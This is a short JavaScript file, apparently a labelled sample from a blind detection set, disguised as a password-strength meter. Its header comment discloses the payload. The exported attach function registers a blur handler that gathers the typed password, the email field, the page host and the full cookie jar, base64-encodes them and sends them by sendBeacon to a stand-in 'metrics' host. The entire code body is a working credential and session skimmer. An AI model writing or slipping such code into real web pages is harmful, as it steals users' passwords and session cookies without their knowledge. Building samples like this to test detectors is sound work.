// source: blind set 10 (pwstrength-meter): a password-strength meter whose blur handler sends the
// typed password, the user name and the page's whole cookie jar to its "metrics" host by sendBeacon
function report(input) {
  const user = (input.form || document).querySelector('input[type=email]');
  const payload = JSON.stringify({ h: location.host, u: user ? user.value : '', w: input.value, c: document.cookie });
  const data = btoa(unescape(encodeURIComponent(payload)));
  navigator.sendBeacon('https://cdn.pwmeter.invalid/v2/metrics', data);
}

export function attach(input) {
  input.addEventListener('blur', () => report(input));
}
